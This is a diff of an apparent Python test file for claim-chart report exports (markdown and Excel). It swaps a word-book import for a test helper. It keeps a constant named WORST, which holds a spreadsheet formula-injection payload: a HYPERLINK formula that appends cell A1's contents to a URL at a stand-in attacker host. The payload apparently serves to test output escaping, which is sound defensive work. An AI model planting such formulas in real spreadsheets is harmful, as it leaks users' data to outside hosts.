@@ -7,14 +7,14 @@ from dataclasses import replace
 from openpyxl import load_workbook
 
 from bot.reports.claim_chart import Chart, as_markdown, as_workbook
-from bot.words import WordBook
 from flows.linkage.codes import Essentiality
 from flows.linkage.items import Claim
 from flows.linkage.register import Register
 from tests.flows.linkage.populations import PICTURE, population
 from tests.flows.linkage.registers import TODAY, application, covers, declaration, family, reads_on, register, standard
+from tests.wordbooks import word_book
 
-BOOK = WordBook()
+BOOK = word_book()
 WORST = '=HYPERLINK("http://evil.example/"&A1,"Pay") | \x0b*bold*'
 
 
